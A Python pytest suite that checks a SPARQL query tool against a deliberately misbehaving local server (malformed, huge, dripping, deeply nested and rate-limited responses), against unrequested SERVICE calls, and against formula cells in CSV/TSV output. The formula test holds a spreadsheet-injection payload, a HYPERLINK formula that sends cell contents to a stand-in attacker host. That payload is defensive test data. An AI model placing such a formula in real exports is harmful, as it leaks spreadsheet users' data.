"""Fault suite, talking to servers: a misbehaving SPARQL endpoint on 127.0.0.1 (dripping, huge,
malformed, endlessly nested, rate-limiting) gives one line in bounded time from `query --endpoint`;
SERVICE calls nobody from the local store unless asked; CSV/TSV results defuse formula cells."""

from __future__ import annotations

import http.server
import threading
import time
import urllib.parse

import pytest

from conftest import run_cli


class Misbehaving:
    """An HTTP server on 127.0.0.1 that answers every request the way `mode` says, counting them."""

    def __init__(self, mode: str):
        self.mode = mode
        self.hits = 0
        server = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def _answer(self) -> None:
                server.hits += 1
                length = int(self.headers.get("Content-Length") or 0)
                if length:
                    self.rfile.read(length)
                try:
                    server.answer(self)
                except (BrokenPipeError, ConnectionResetError):
                    pass

            do_GET = do_POST = _answer

            def log_message(self, *args) -> None:
                pass

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}/sparql"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def answer(self, h: http.server.BaseHTTPRequestHandler) -> None:
        json_type = "application/sparql-results+json"
        if self.mode == "malformed-json":
            self._send(h, 200, json_type, b'{"head": {"vars": ["s"]}, "results": {"bindings": [{"s": ')
        elif self.mode == "malformed-xml":
            self._send(h, 200, "application/sparql-results+xml",
                       b'<?xml version="1.0"?><sparql xmlns="http://www.w3.org/2005/sparql-results#"><head>')
        elif self.mode == "deep-json":
            self._send(h, 200, json_type, b'{"head": {"vars": ["s"]}, "results": {"bindings": ' + b"[" * 100_000
                       + b"]" * 100_000 + b"}}")
        elif self.mode == "not-results":
            self._send(h, 200, "text/html", b"<html><body>Welcome to nginx!</body></html>")
        elif self.mode == "429":
            h.send_response(429)
            h.send_header("Retry-After", "3600")
            h.send_header("Content-Length", "0")
            h.end_headers()
        elif self.mode == "huge":
            h.send_response(200)
            h.send_header("Content-Type", json_type)
            h.end_headers()
            chunk = b" " * 1_000_000
            for _ in range(2_000):  # 2 GB of whitespace, unless the client stops reading first
                h.wfile.write(chunk)
        elif self.mode == "drip-after-ask" and "ASK" in urllib.parse.unquote(h.path):
            self._send(h, 200, json_type, b'{"head": {}, "boolean": true}')
        elif self.mode in ("drip", "drip-after-ask"):
            h.send_response(200)
            h.send_header("Content-Type", json_type)
            h.end_headers()
            for _ in range(600):
                h.wfile.write(b" ")
                h.wfile.flush()
                time.sleep(0.2)
        elif self.mode == "results":
            self._send(h, 200, json_type, b'{"head": {"vars": ["s"]}, "results": {"bindings": []}}')

    @staticmethod
    def _send(h, status: int, content_type: str, body: bytes) -> None:
        h.send_response(status)
        h.send_header("Content-Type", content_type)
        h.send_header("Content-Length", str(len(body)))
        h.end_headers()
        h.wfile.write(body)

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def misbehaving():
    servers: list[Misbehaving] = []

    def start(mode: str) -> Misbehaving:
        servers.append(Misbehaving(mode))
        return servers[-1]

    yield start
    for s in servers:
        s.close()


def _one_line(err: str) -> str:
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 1 and "Traceback" not in err, err
    return lines[0]


@pytest.mark.parametrize("mode", ["malformed-json", "malformed-xml", "deep-json", "not-results"])
def test_malformed_results_are_one_line(misbehaving, mode):
    server = misbehaving(mode)
    r = run_cli("query", "--endpoint", server.url, "--timeout", "20", "--sparql", "SELECT ?s WHERE { ?s ?p ?o }",
                timeout=120)
    assert r.code == 2
    assert server.url in _one_line(r.err) or "results" in _one_line(r.err)


def test_rate_limiting_is_one_line_not_an_hour_of_waiting(misbehaving):
    server = misbehaving("429")
    start = time.monotonic()
    r = run_cli("query", "--endpoint", server.url, "--timeout", "5", "--sparql", "SELECT ?s WHERE { ?s ?p ?o }",
                timeout=120)
    assert time.monotonic() - start < 60
    assert r.code == 2 and "429" in _one_line(r.err)


@pytest.mark.parametrize("mode", ["drip", "huge"])
def test_a_misbehaving_endpoint_is_one_line_in_bounded_time(misbehaving, mode):
    """The one SPARQL client's overall deadline and body limit (issue 13), set low here."""
    server = misbehaving(mode)
    start = time.monotonic()
    r = run_cli("query", "--endpoint", server.url, "--timeout", "5", "--sparql", "SELECT ?s WHERE { ?s ?p ?o }",
                env={"FILMGRAPH_REQUEST_DEADLINE": "5", "FILMGRAPH_MAX_RESPONSE_BYTES": "10000000"}, timeout=30)
    assert time.monotonic() - start < 40
    assert r.code == 2 and server.url in _one_line(r.err)


def test_the_query_timeout_holds_on_a_server_however_long_its_own_deadline(misbehaving):
    """On a server the request itself keeps the query's timeout (no thread waits for it): a dripping
    answer is given up at `--timeout`, not at the client's much longer deadline."""
    server = misbehaving("drip-after-ask")
    start = time.monotonic()
    r = run_cli("query", "--endpoint", server.url, "--timeout", "2", "--sparql", "SELECT ?s WHERE { ?s ?p ?o }",
                env={"FILMGRAPH_REQUEST_DEADLINE": "100"}, timeout=60)
    assert time.monotonic() - start < 30
    assert r.code == 2 and "ran past the 2 s timeout" in _one_line(r.err)


SERVICE_QUERY = "SELECT ?s WHERE {{ SERVICE <{url}> {{ ?s ?p ?o }} }}"


def test_service_is_refused_on_the_store_unless_allowed(misbehaving, sample_store):
    server = misbehaving("results")
    query = SERVICE_QUERY.format(url=server.url)
    r = run_cli("query", "--store", str(sample_store), "--sparql", query)
    assert r.code == 2 and "--allow-service" in _one_line(r.err)
    assert server.hits == 0  # not even the syntax check called it
    r = run_cli("query", "--store", str(sample_store), "--allow-service", "--sparql", query)
    assert r.code == 1, r.err  # no rows
    assert server.hits == 1  # once: the syntax check runs nothing


def test_the_syntax_check_never_executes_a_query(misbehaving):
    from filmgraph.query import NamedQuery, check

    server = misbehaving("results")
    text = f"# SERVICE <{server.url}> in a comment\nASK {{ SERVICE SILENT <{server.url}> {{ ?s ?p \"SERVICE\" }} }}"
    assert check(NamedQuery("q", text, "q")) == "ask"
    assert server.hits == 0


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_csv_and_tsv_defuse_formula_cells(sample_store, fmt):
    values = " ".join(f'("{v}")' for v in ['=1+1', "+44 20", "-x", "@SUM(A1)", "\\tTAB", "-5", "plain"])
    query = f"SELECT ?v WHERE {{ VALUES (?v) {{ {values} (\"{FORMULA.replace(chr(34), chr(92) + chr(34))}\") }} }}"
    r = run_cli("query", "--store", str(sample_store), "--format", fmt, "--sparql", query)
    assert r.code == 0, r.err
    cells = [line.strip('"') for line in r.out.splitlines()[1:]]
    for cell in cells:
        text = cell.removeprefix('"')
        assert not text.startswith(("=", "+", "@", "\t")) and not (text.startswith("-") and text != "-5"), cell
    assert any("'=HYPERLINK" in c for c in cells) and any(c.strip('"') == "-5" for c in cells)
    assert any("plain" == c.strip('"') for c in cells)


@pytest.mark.parametrize("mode", ["malformed-json", "deep-json", "not-results", "429"])
def test_the_link_client_gives_one_line_for_a_misbehaving_endpoint(misbehaving, sample_store, tmp_path, mode):
    server = misbehaving(mode)
    start = time.monotonic()
    r = run_cli("link", "--store", str(sample_store), "--target", "wikidata", "--endpoint", server.url,
                "--type", "film", "--dry-run", "--cache", str(tmp_path / "cache"), timeout=120)
    assert time.monotonic() - start < 60
    assert r.code == 2 and "Traceback" not in r.err
    assert server.url in _one_line(r.err) or "SPARQL JSON" in _one_line(r.err)
